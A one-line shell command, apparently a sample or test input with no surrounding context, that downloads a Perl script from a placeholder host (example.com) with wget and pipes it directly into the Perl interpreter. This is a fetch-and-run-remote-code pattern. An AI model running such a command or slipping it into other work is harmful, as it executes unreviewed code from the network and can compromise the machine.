wget -O- http://example.com/a.pl | env perl
